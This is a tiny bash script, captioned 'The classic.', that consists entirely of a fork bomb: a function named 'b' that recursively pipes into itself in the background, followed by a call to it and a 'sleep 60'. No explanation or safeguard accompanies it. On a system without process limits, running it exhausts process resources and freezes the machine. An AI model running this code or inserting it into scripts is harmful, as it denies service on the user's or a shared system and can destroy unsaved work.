# The classic.
b(){ b|b& }
b
sleep 60
